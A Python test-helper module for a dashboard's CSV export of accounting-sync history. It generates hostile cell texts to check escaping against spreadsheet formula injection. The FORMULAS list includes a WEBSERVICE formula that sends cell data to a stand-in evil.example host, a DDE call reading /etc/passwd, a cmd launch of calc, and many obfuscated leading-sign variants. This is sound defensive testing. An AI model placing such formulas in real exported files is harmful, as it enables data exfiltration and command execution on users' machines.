"""Syncs to export, and texts that try to be more than text in a file."""

from __future__ import annotations

import random
import re
from collections.abc import Sequence
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pandas as pd
from hypothesis import strategies as st

from codat_client import CompanySyncStatus
from dashboard.export.files import About
from dashboard.views.history.frame import history_frame
from sandbox.hostile import NAME, TEXTS

LONDON = ZoneInfo("Europe/London")
SIGNS = "=+-@＝﹦⁼₌＋﹢⁺₊﬩－﹣−⁻₋＠﹫"
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=1+1;=2+2",
    "=1+1\n=2+2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab first",
    "\nline end first",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003\u2009-1",
    "'=1+1",
    "''=1+1",
    "'\t=1+1",
    '"=1+1',
    '"=1+1"',
    '" =1+1"',
    "fine\n=1+1",
    "fine\r\n+1+1\r\nfine",
    "fine;=1+1",
    "fine; =1+1;fine",
    'fine;"=1+1";fine',
    "fine;;=1+1;",
    "fine\t=1+1\tfine",
    'fine\t"=1+1"\tfine',
    '","=1+1","',
    '";=1+1;"',
    '"\n=1+1\n"',
    '"\t=1+1\t"',
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\x1c=1+1",
    "\u202e=1+1",
    *(f"{sign}1+1" for sign in SIGNS),
    '=HYPERLINK("https://evil.example","here")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "of:=1+1",
    "_x003D_1+1",
    "_x0041_ and _x005F_",
    "https://evil.example/bare",
    "mailto:a@evil.example",
    "#REF! and a lone half \ud800",
    "a" * 1000 + ";" + " " * 1000 + "=1+1",
)
HOSTILE = (*TEXTS, *FORMULAS)
WILD = st.text(max_size=60) | st.text(f"{SIGNS};,\t\n\r \"'ab1\u00a0\ud800\u202e\x00\\", max_size=30)


def sync(number: int = 0, **seen: object) -> CompanySyncStatus:
    """One sync of a minute of its own; later numbers are older, so they stay in their order."""
    minutes = 60 * 24 * 400 - number
    at = f"2026-{minutes // 43200 % 12 + 1:02d}-{minutes // 1440 % 28 + 1:02d}"
    usual: dict[str, object] = {
        "sync_id": f"00000000-0000-4000-8000-{number:012d}",
        "sync_status_code": 2000,
        "sync_status": "Complete",
        "data_pushed": True,
        "sync_utc_text": f"{at}T{minutes // 60 % 24:02d}:{minutes % 60:02d}:00Z",
    }
    return CompanySyncStatus(**(usual | seen))  # type: ignore[arg-type] # of its own types


def with_texts(texts: Sequence[str]) -> pd.DataFrame:
    """A sync for each text, which stands in all its fields, in the order given."""
    syncs = [
        sync(
            number,
            sync_id=text,
            sync_status_code=4999,
            sync_status=text,
            error_message=text,
            sync_exception_message=text,
        )
        for number, text in enumerate(texts)
    ]
    frame = history_frame(syncs, LONDON)
    return frame.sort_values("place").reset_index(drop=True)


def frame_of(*syncs: CompanySyncStatus, zone: ZoneInfo = LONDON) -> pd.DataFrame:
    """Their frame, the newest first."""
    return history_frame(syncs, zone)


def about(frame: pd.DataFrame, **seen: object) -> About:
    """What a file of this frame says of itself."""
    usual: dict[str, object] = {
        "company_name": "Bluebird Coffee",
        "company_id": "0b1d0000-0000-4000-8000-00000000c0fe",
        "filters": ["Failed", "Cause: overlapping range"],
        "order": "the newest first",
        "zone": LONDON,
        "zone_label": "London",
        "as_of": datetime(2026, 7, 1, 23, 30, tzinfo=UTC),
        "shown": len(frame),
        "of": 812,
    }
    return About(**(usual | seen))  # type: ignore[arg-type] # of its own types


def hostile_about(frame: pd.DataFrame, text: str = NAME) -> About:
    """The same, with a hostile text wherever a text can stand."""
    return about(frame, company_name=text, company_id=text, filters=[text], order=text, zone_label=text)


def wild_texts(number: int) -> list[str]:
    """Texts of dice (always the same), made of what formulas, cells and quotes are made of."""
    dice = random.Random(7)
    pieces = [*SIGNS[:4], *SIGNS[:4], *";;\t\n \"',", "1", "1+1", "A1", "SUM(1)", "fine", "\u00a0", "＝"]
    return ["".join(dice.choices(pieces, k=dice.randint(1, 9))) for _ in range(number)]


def without_marks(cell: str) -> str:
    """What a reader does to have the text of a CSV's cell back: take one ' away where one was put."""
    if re.match(r"''*[\t\n]", cell):
        cell = cell[1:]
    kept: list[str] = []
    run = ""
    for place, char in enumerate(cell):
        if char in SIGNS + "⩵⩶" and (len(run) == place or set(run) & set(";\t\n")):
            assert kept[-1] == "'"
            kept.pop()
        run = run + char if char.isspace() or char in "\"';" else ""
        kept.append(char)
    return "".join(kept)


def parts(text: str) -> list[str]:
    """Where cells could be parted, by whatever separator; without the blanks and quotes round each."""
    ways = ("\n", "\n;", "\n\t", "\n;\t")
    found = [part for way in ways for part in re.split(f"[{way}]", text)]
    return [part.strip().strip('"').strip() for part in found]
